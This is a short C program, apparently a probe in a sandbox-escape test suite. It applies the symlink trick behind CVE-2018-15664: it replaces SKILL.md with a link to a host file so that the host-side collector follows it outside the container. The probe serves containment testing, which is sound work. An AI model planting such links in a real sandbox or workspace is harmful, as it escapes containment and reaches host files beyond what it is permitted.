/* CVE-2018-15664's idea: whoever collects what a container left follows links as its host. */
#include "escape.h"

int main(int argc, char **argv)
{
    if (argc <= ESCAPE_FILE)
        escape_broken("arguments");
    (void)unlink("SKILL.md");
    if (symlink(argv[ESCAPE_FILE], "SKILL.md") < 0 || symlink(argv[ESCAPE_FILE], "/tmp/x") < 0)
        escape_broken("symlink");
    escape_end(true, "links to a file of the host");
}
